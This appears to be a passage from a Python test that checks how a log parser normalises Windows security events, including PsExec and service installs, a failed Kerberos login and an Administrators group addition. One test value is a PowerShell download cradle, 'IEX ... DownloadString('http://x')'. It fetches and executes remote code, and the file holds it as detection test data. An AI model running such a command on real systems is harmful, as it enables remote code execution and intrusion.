    assert (svc["activity"], svc["process_name"], svc["user_name"]) == ("service_install", r"%SystemRoot%\PSEXESVC.exe", "admin")
    assert (kerb["activity"], kerb["outcome"], kerb["src_ip"], kerb["src_port"]) == ("kerberos_preauth", "failure", "10.1.2.3", 50111)
    assert kerb["reason"] == "0x18 (pre-authentication failed (bad password))"
    assert (group["activity"], group["user_name"], group["attributes"]["group_name"]) == ("group_member_add", "CN=clerk,OU=Shop,DC=corp", "Administrators")
    assert (ps["activity"], ps["command_line"], ps["file_path"], ps["attributes"]["log"]) == (
        "powershell_script_block", "IEX (New-Object Net.WebClient).DownloadString('http://x')", None, "powershell")
    assert (scm["activity"], scm["command_line"], scm["user_name"], scm["outcome"]) == ("service_install", "cmd.exe /c calc", "LocalSystem", "success")
